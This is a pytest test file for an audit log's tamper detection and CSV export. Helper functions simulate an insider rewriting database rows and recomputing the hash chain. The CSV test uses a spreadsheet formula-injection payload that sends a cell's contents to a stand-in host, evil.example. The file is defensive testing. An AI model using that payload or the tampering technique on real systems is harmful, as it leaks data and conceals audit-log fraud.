"""The audit log against an insider who can write the database (issue 12 item 3), on SQLite and PostgreSQL.

The attacker drops the append-only triggers, and recomputes the SHA-256 chain
and ``audit.head`` after every change; they do not hold the key (outside the
database and the home) and cannot rewrite the external checkpoint file.
Each case: detected with a key and checkpoints, and what remains without them.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat

import pytest
from sqlalchemy import select

from base.errors import ConfigError
from indexer.catalog import AuditEvent, Catalog
from shirube import audit
from shirube.audit_seal import Seal, chain_hash, keygen, load_key
from shirube.cli import main as cli_main
from shirube.engine import Shirube
from tests.test_audit import _as_dba

NO_KEY = "鍵が設定されていないため、データベースに書き込める者による書き換えは検出できません"


@pytest.fixture
def log(db_url, tmp_path):
    """A catalog with 5 rows written with a key and checkpoints; (catalog, anchor, seal)."""
    (tmp_path / "secret").mkdir()
    keygen(tmp_path / "secret" / "audit.key")
    seal = Seal(load_key(tmp_path / "secret" / "audit.key"), tmp_path / "secret" / "checkpoints.jsonl")
    anchor = tmp_path / "home" / "audit.head"
    cat = Catalog(db_url)
    for i in range(5):
        audit.record(cat, f"user{i}", "ask", {"question": f"質問{i}", "answer": f"回答{i}"}, anchor=anchor, seal=seal)
    assert audit.check(cat, anchor, seal).problems == []
    yield cat, anchor, seal
    cat.close()


def _rows(cat):
    with cat.session() as s:
        return [dict(id=e.id, at=e.at, user=e.user, action=e.action, detail=e.detail, prev_hash=e.prev_hash, hash=e.hash)
                for e in s.execute(select(AuditEvent).order_by(AuditEvent.id)).scalars()]


def _rechain(cat, anchor, start_id=1, key=None, edit=None, insert=None, delete=()):
    """What an insider's script does: delete/edit/insert rows, recompute the chain from
    ``start_id`` (plain SHA-256, or with a ``key`` of their own) and rewrite audit.head."""
    t = AuditEvent.__table__
    with cat.engine.begin() as conn:
        _as_dba(conn)
        for i in delete:
            conn.execute(t.delete().where(t.c.id == i))
        if edit:
            conn.execute(t.update().where(t.c.id == edit[0]).values(detail=edit[1]))
        if insert:
            conn.execute(t.insert().values(**insert))
        rows = conn.execute(select(t).order_by(t.c.id)).mappings().all()
        prev = audit.GENESIS
        for r in rows:
            if r["id"] >= start_id:
                h = chain_hash(prev, r["at"], r["user"], r["action"], r["detail"] or {}, key)
                conn.execute(t.update().where(t.c.id == r["id"]).values(prev_hash=prev, hash=h))
                prev = h
            else:
                prev = r["hash"]
    if rows:
        anchor.write_text(f"{rows[-1]['id']} {prev}\n")
    elif anchor.exists():
        anchor.unlink()


def _forged(cat, key=None):
    last = _rows(cat)[-1]
    at = last["at"]
    detail = {"document_id": 7, "label": 1}
    return dict(id=last["id"] + 1, at=at, user="u_admin", action="relabel", detail=detail,
                prev_hash=last["hash"], hash=chain_hash(last["hash"], at, "u_admin", "relabel", detail, key))


def _problems(cat, anchor, seal):
    return audit.check(cat, anchor, seal).problems


# -- the tampering cases of issue 12 ----------------------------------------------------
def test_forged_appended_row_with_a_correct_hash(log):
    cat, anchor, seal = log
    _rechain(cat, anchor, start_id=10**9, insert=_forged(cat))  # a correct SHA-256 link, head rewritten
    assert any("row 6: unkeyed hash after keyed rows (forged)" in p for p in _problems(cat, anchor, seal))


def test_without_a_key_a_forged_row_is_named_unproven(db_url, tmp_path):
    """Out of scope without a key (README): the row verifies, but verify names every row as unproven."""
    cat, anchor = Catalog(db_url), tmp_path / "audit.head"
    for i in range(3):
        audit.record(cat, "yamada", "login", {"n": i}, anchor=anchor)
    _rechain(cat, anchor, start_id=10**9, insert=_forged(cat))
    v = audit.check(cat, anchor, None)
    assert v.problems == [] and v.unproven[0] == f"行 1–4: {NO_KEY}（audit_key_file を設定してください）"
    assert "鍵なし" in v.summary()
    cat.close()


def test_forged_row_with_a_key_of_their_own(log):
    cat, anchor, seal = log
    keygen(anchor.parent.parent / "their.key")
    own = load_key(anchor.parent.parent / "their.key")
    _rechain(cat, anchor, start_id=10**9, insert=_forged(cat, own))
    assert any("row 6: content does not match its hash" in p for p in _problems(cat, anchor, seal))


def test_truncated_tail_with_rewritten_head(log):
    cat, anchor, seal = log
    _rechain(cat, anchor, start_id=10**9, delete=(4, 5))
    problems = _problems(cat, anchor, seal)
    assert any("row 5 named by a checkpoint is missing" in p for p in problems), problems
    # a head replayed from an older copy (with its valid MAC) still loses against the checkpoints …
    anchor.write_text(f"3 {_rows(cat)[-1]['hash']} {audit.anchor_mac(seal.key, 3, _rows(cat)[-1]['hash'])}\n")
    assert any("row 5 named by a checkpoint is missing" in p for p in _problems(cat, anchor, seal))
    # … but without external checkpoints a truncation back to an old head is out of reach (README)
    v = audit.check(cat, anchor, Seal(seal.key, None))
    assert v.problems == [] and any("audit_checkpoint_file" in u for u in v.unproven)


def test_edited_row_with_recomputed_chain_and_head(log):
    cat, anchor, seal = log
    _rechain(cat, anchor, start_id=3, edit=(3, {"question": "質問2", "answer": "改ざんされた回答"}))
    problems = _problems(cat, anchor, seal)
    assert any("row 3: unkeyed hash after keyed rows (forged)" in p for p in problems), problems
    assert any("rows up to 5 differ from the checkpoint" in p for p in problems)
    # rewriting from row 1 leaves no keyed row behind: the checkpoints still see it
    _rechain(cat, anchor, start_id=1)
    assert any("differ from the checkpoint" in p for p in _problems(cat, anchor, seal))
    # and with the key but without checkpoints every row is reported unproven, never 「改ざんなし」 for them
    v = audit.check(cat, anchor, Seal(seal.key, None))
    assert any(u.startswith("行 1–5: 鍵の設定前に書かれた行") for u in v.unproven), v


def test_every_row_and_the_head_deleted(log):
    cat, anchor, seal = log
    _rechain(cat, anchor, delete=(1, 2, 3, 4, 5))
    v = audit.check(cat, anchor, seal)
    assert v.events == 0 and any("row 5 named by a checkpoint is missing" in p for p in v.problems), v
    # without the external file there is nothing left to compare with (README: out of scope)
    assert audit.check(cat, anchor, Seal(seal.key, None)).problems == []


def test_id_gap_after_a_recomputed_deletion(log):
    cat, anchor, seal = log
    _rechain(cat, anchor, start_id=4, delete=(3,))
    assert any("ids 3-3 missing" in p for p in _problems(cat, anchor, seal))
    # the gap is found without key and checkpoints too: ids are assigned gaplessly under the append lock
    assert any("ids 3-3 missing" in p for p in audit.check(cat, anchor, None).problems)


def test_head_and_checkpoint_file_forgeries(log):
    cat, anchor, seal = log
    rows = _rows(cat)
    anchor.write_text(f"5 {rows[-1]['hash']} {'0' * 64}\n")  # a MAC made up
    assert any("anchor MAC missing or invalid" in p for p in _problems(cat, anchor, seal))
    anchor.write_text(f"5 {rows[-1]['hash']}\n")  # the MAC stripped
    assert any("anchor MAC missing or invalid" in p for p in _problems(cat, anchor, seal))
    anchor.write_text(f"5 {rows[-1]['hash']} {audit.anchor_mac(seal.key, 5, rows[-1]['hash'])}\n")
    with open(seal.checkpoint_file, "a") as fh:  # a checkpoint line with a made-up MAC
        fh.write(json.dumps({"last_id": 9, "count": 9, "head": "f" * 64, "at": "x", "key_id": "k", "mac": "0" * 64}) + "\n")
        fh.write("not json\n")
    problems = _problems(cat, anchor, seal)
    assert any("checkpoint MAC invalid" in p for p in problems) and any("malformed" in p for p in problems)


def test_a_checkpoint_without_a_mac_proves_nothing_once_a_key_is_set(log, tmp_path):
    """Anyone who can append to the file can add an unkeyed line: it is compared, never trusted."""
    cat, anchor, seal = log
    cp_file = tmp_path / "cp2.jsonl"
    audit.checkpoint(cat, Seal(None, cp_file))  # written before the key (mac null), matches the rows
    v = audit.check(cat, anchor, Seal(seal.key, cp_file))
    assert v.ok and v.proven_to == 0 and any("最後の外部チェックポイントより後" in u for u in v.unproven)
    _rechain(cat, anchor, start_id=1)  # a rewrite still shows against it
    assert any("differ from the checkpoint" in p for p in audit.check(cat, anchor, Seal(seal.key, cp_file)).problems)


def test_untampered_log_is_proven_up_to_the_last_checkpoint(log):
    cat, anchor, seal = log
    v = audit.check(cat, anchor, seal)
    assert (v.ok, v.events, v.proven_to, v.unproven) == (True, 5, 5, [])
    assert "改ざんは見つかりません" in v.summary() and "行 5 まで証明" in v.summary()
    # rows appended while the checkpoint file was not configured: named as the unproven tail
    audit.record(cat, "late", "login", {}, anchor=anchor, seal=Seal(seal.key, None))
    v = audit.check(cat, anchor, seal)
    assert v.ok and v.unproven == ["行 6: 最後の外部チェックポイントより後の行です。末尾からの削除は検出できません"]


# -- keys: creation, placement, an existing home without one ------------------------------
def test_keygen_and_key_placement(tmp_path):
    path = tmp_path / "k"
    key_id = keygen(path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and len(key_id) == 16
    with pytest.raises(ConfigError, match="上書きしません"):
        keygen(path)
    assert load_key(path).key_id == key_id and "secret" not in repr(load_key(path))
    with pytest.raises(ConfigError, match="データディレクトリの中"):
        load_key(path, home=tmp_path)
    os.chmod(path, 0o644)
    with pytest.raises(ConfigError, match="chmod 600"):
        load_key(path)
    (tmp_path / "bad").write_text("xyz")
    os.chmod(tmp_path / "bad", 0o600)
    with pytest.raises(ConfigError, match="形式が正しくありません"):
        load_key(tmp_path / "bad")


def test_cli_keygen_checkpoint_and_verify(db_url, tmp_path, monkeypatch, capsys):
    home, secret = tmp_path / "home", tmp_path / "secret"
    secret.mkdir()
    monkeypatch.setenv("SHIRUBE_DB_URL", db_url)
    monkeypatch.setenv("SHIRUBE_EMBEDDER", "fake")
    sh = Shirube.open(home=home)
    sh.audit("cli", "login", {"n": 0})  # written before any key: a plain row
    sh.close()
    assert cli_main(["--home", str(home), "audit", "verify"]) == 0
    out = capsys.readouterr().out
    assert "監査ログ: 1 件" in out and NO_KEY in out and "行 1:" in out
    assert cli_main(["audit", "keygen", "--out", str(secret / "audit.key")]) == 0
    assert cli_main(["audit", "keygen", "--out", str(secret / "audit.key")]) == 1  # never overwritten
    monkeypatch.setenv("SHIRUBE_AUDIT_KEY_FILE", str(secret / "audit.key"))
    monkeypatch.setenv("SHIRUBE_AUDIT_CHECKPOINT_FILE", str(secret / "cp.jsonl"))
    sh = Shirube.open(home=home)
    sh.audit("cli", "login", {"n": 1})  # keyed, and checkpointed
    sh.close()
    capsys.readouterr()
    assert cli_main(["--home", str(home), "audit", "verify"]) == 0
    out = capsys.readouterr().out
    assert "行 2 まで証明" in out and "未証明" not in out  # the checkpoint of row 2 covers the plain row 1 too
    assert cli_main(["--home", str(home), "audit", "checkpoint"]) == 0
    cp = json.loads(capsys.readouterr().out)
    assert (cp["last_id"], cp["count"]) == (2, 2) and len(cp["mac"]) == 64
    assert len((secret / "cp.jsonl").read_text().splitlines()) == 2
    cat = Catalog(db_url)
    _rechain(cat, home / "audit.head", start_id=2, edit=(2, {"n": 9}))
    cat.close()
    capsys.readouterr()
    assert cli_main(["--home", str(home), "audit", "verify"]) == 2
    assert "改ざん" in capsys.readouterr().out
    monkeypatch.setenv("SHIRUBE_AUDIT_KEY_FILE", str(home / "audit.key"))  # a key inside the home is refused
    assert cli_main(["--home", str(home), "audit", "verify"]) == 1
    assert "データディレクトリの中" in capsys.readouterr().err


# -- CSV export cannot run formulas (issue 12 item 4) ------------------------------------
def test_csv_export_neutralises_formulas_and_control_characters(db_url, tmp_path):
    cat = Catalog(db_url)
    q = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
    audit.record(cat, "@admin", "ask", {"question": q, "answer": "+1\x1b[2J回答\n二行目", "latency_s": -0.5})
    audit.record(cat, "yamada", "ask", {"question": "-3 の意味", "answer": "\t=1+1"})
    buf = io.StringIO()
    assert audit.export_csv(cat, buf) == 2
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert rows[0]["question"] == "'" + q and rows[0]["user"] == "'@admin"
    assert rows[0]["answer"] == "'+1\\x1b[2J回答\n二行目" and rows[0]["latency_s"] == "-0.5"
    assert rows[1]["question"] == "'-3 の意味" and rows[1]["answer"] == "'\t=1+1"
    assert "\x1b" not in buf.getvalue()
    assert all(not r[k].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k in r if k != "latency_s")
    # JSON output is unchanged: the events keep the text as written
    assert [e["question"] for e in audit.events(cat, limit=None)] == ["-3 の意味", q]
    cat.close()
